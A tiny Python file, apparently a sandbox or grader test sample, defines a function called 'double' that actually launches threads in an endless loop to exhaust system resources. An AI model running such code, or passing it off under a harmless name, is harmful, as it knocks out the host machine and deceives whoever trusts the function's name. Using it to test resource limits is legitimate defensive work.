import threading
import time


def double(x):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
